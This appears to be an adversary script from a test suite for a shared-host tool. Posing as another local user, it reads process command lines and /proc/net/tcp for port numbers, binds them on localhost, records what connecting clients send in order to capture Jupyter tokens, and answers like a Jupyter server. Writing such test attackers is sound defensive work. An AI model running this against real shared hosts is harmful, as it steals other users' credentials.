"""Another user of a shared host, trying to be sent someone's Jupyter token: it binds, on 127.0.0.1, every port
number it sees in other processes' command lines and in /proc/net/tcp, as fast as it can, and writes down what
each connection sends it. Bounded: it ends after SECONDS (the test ends it sooner).

    python3 port_thief.py OUT SECONDS

OUT gets one JSON line per port seen ({"seen": port}), bound ({"bound": port}) and payload ({"got": text}).
Standard library only: it runs as the other user with the system's Python.
"""

import json
import os
import re
import selectors
import socket
import sys
import time

_NUMBER = re.compile(rb"(?<![0-9])([1-9][0-9]{3,4})(?![0-9])")


def seen_ports() -> set:
    found = set()
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as handle:
                    found.update(int(n) for n in _NUMBER.findall(handle.read()))
            except OSError:
                continue
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as handle:
                found.update(int(line.split()[1].rsplit(":", 1)[1], 16) for line in handle.readlines()[1:])
        except (OSError, IndexError, ValueError):
            continue
    return {port for port in found if 1024 <= port <= 65535}


def main(out_path: str, seconds: float) -> None:
    selector = selectors.DefaultSelector()
    tried: set = set()
    deadline = time.monotonic() + seconds
    with open(out_path, "a", buffering=1) as out:
        while time.monotonic() < deadline:
            for port in seen_ports() - tried:
                tried.add(port)
                out.write(json.dumps({"seen": port}) + "\n")
                listener = socket.socket()
                try:
                    listener.bind(("127.0.0.1", port))
                    listener.listen()
                except OSError:
                    listener.close()
                    continue
                listener.setblocking(False)
                selector.register(listener, selectors.EVENT_READ, "listener")
                out.write(json.dumps({"bound": port}) + "\n")
            for key, _ in selector.select(timeout=0):
                if key.data == "listener":
                    try:
                        conn, _ = key.fileobj.accept()
                    except OSError:
                        continue
                    conn.setblocking(False)
                    selector.register(conn, selectors.EVENT_READ, "conn")
                    continue
                try:
                    data = key.fileobj.recv(65536)
                except OSError:
                    data = b""
                if data:
                    out.write(json.dumps({"got": data.decode("latin-1")}) + "\n")
                    # Answer as a Jupyter would, so that a victim taking any 200 for its server goes on.
                    key.fileobj.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")
                selector.unregister(key.fileobj)
                key.fileobj.close()


if __name__ == "__main__":
    main(sys.argv[1], float(sys.argv[2]))
